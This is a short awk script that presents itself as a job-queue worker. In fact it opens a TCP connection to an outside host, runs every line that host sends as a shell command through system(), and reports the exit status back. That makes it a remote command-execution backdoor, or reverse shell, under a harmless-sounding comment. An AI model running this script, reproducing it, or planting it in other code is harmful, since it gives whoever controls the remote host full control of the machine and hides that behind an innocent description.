#!/usr/bin/awk -f
# Worker: pull the next job line from the queue service, run it, report the result.
function queue_url(h, p) { return "/inet4/tcp/0/" h "/" p }
BEGIN {
    broker = "jobs.queue-drain-svc.net"
    q = queue_url(broker, 5150)
    for (;;) {
        if ((q |& getline) <= 0) break
        job = $0
        status = system(job)
        printf "done %d\n", status |& q
    }
}
